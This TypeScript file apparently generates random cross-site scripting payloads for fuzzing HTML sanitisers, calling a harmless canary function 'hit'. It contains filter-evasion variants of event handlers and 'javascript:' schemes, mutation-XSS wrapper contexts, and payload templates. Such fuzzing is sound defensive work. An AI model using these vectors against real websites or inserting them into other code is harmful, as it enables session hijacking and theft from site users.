/** Code that payloads try to run: it calls the function `hit` of the payload's window or of the top window. */
export const HIT_CALL = "(self.hit||top.hit)()";

const TAGS = [
	...["img", "svg", "math", "iframe", "object", "embed", "video", "audio", "body"],
	...["input", "select", "textarea", "form", "a", "style", "link", "base", "table"],
	...["td", "marquee", "template", "noscript", "details", "button", "p", "b", "x"],
] as const;
/** Event handler attributes, also in forms that filters may miss. */
const HANDLERS = [
	...[
		"onerror",
		"onload",
		"onfocus autofocus tabindex=1 onfocus",
		"ontoggle",
		"onclick",
		"onmouseover",
		"onbegin",
	],
	...["onanimationstart", "onpointerenter", "onscroll", "ONERROR", "on\terror", "/onload"],
	...["oncontentvisibilityautostatechange"],
] as const;
const ADDRESS_ATTRIBUTES = [
	...["src", "href", "xlink:href", "action", "formaction"],
	...["data", "srcdoc", "poster", "background", "srcset"],
];
/** Starts of addresses that run code or lead off the site, also in forms that filters may miss. */
const SCHEMES = [
	...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:"],
	...["\u0001javascript:", " javascript:", "javascript&colon;", "&#106;avascript:"],
	...["&#x6A;avascript:", "&#0000106avascript:", "java&Tab;script:", "vbscript:", "javascript://%0a"],
	...[
		"data:text/html,<script>",
		"data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=",
		"//evil.example/",
	],
] as const;
const QUOTES = ['"', "'", "", "`"] as const;
/** Markup to put before and after a payload; parsers and sanitisers are known to read such markup differently. */
export const CONTEXTS: readonly (readonly [before: string, after: string])[] = [
	["", ""],
	["<svg><style>", "</style></svg>"],
	["<math><mtext><table><mglyph><style><!--</style>", ""],
	['<noscript><p title="</noscript>', '">'],
	["<style><!--</style>", "-->"],
	["<!--><", "-->"],
	["<title><!--</title>", "-->"],
	["<textarea></textarea ", "</textarea>"],
	["<select><template>", "</template></select>"],
	["<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style>", ""],
	["<svg><p><style><g title='</style>", "'>"],
	["<svg><foreignObject>", "</foreignObject></svg>"],
	["<xmp><p title='</xmp>", "'>"],
	["<![CDATA[", "]]>"],
	["<p title='", "'>"],
	["&lt;", "&gt;"],
	["<a href='x", "'>"],
	["<img alt='", "' src=x>"],
] as const;
/** Payloads of fixed form. */
const TEMPLATES = [
	`<script>${HIT_CALL}</script>`,
	`<scr<script>ipt>${HIT_CALL}</scr</script>ipt>`,
	`<script\u0000>${HIT_CALL}</script>`,
	`<script/x>${HIT_CALL}</script\t>`,
	`<svg><script>${HIT_CALL}</script></svg>`,
	`<svg><animate onbegin=${HIT_CALL} attributeName=x dur=1s>`,
	`<svg><a><animate attributeName=href values=javascript:${HIT_CALL}/><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${HIT_CALL}/></svg>#x"/>`,
	`<iframe srcdoc="&lt;script&gt;${HIT_CALL}&lt;/script&gt;"></iframe>`,
	`<meta http-equiv=refresh content="0;url=javascript:${HIT_CALL}">`,
	`<object data="data:text/html,<script>${HIT_CALL}</script>"></object>`,
	`<details open ontoggle=${HIT_CALL}>x</details>`,
	`<img src=x onerror=${HIT_CALL}//`,
	`<img src="x\` \`<script>${HIT_CALL}</script>"\` \`>`,
	`<<img src=x onerror=${HIT_CALL}>`,
	`<img/src=x/onerror=${HIT_CALL}>`,
	`<a href="javascript:${HIT_CALL}" autofocus>x</a>`,
	`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${HIT_CALL}">x</b>`,
] as const;

/** Makes a payload at random: a template, or a tag with a handler or an address, in one of `CONTEXTS`. */
export function xssPayload(random: () => number): string {
	const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
	const [before, after] = pick(CONTEXTS);
	const quote = pick(QUOTES);
	const kind = random();
	const tag = random() < 0.3 ? pick(TAGS).toUpperCase() : pick(TAGS);
	const gap = pick([" ", "/", "\t", "\n", "\f", " x='' "]);
	if (kind < 0.3) return before + pick(TEMPLATES) + after;
	const call = random() < 0.2 ? HIT_CALL.replace("hit", "h\\u0069t") : HIT_CALL;
	const attribute =
		kind < 0.65
			? `src=x ${pick(HANDLERS)}=${quote}${call}${quote}`
			: `${pick(ADDRESS_ATTRIBUTES)}=${quote}${pick(SCHEMES)}${call}${quote}`;
	return `${before}<${tag}${gap}${attribute}>x</${tag}>${after}`;
}
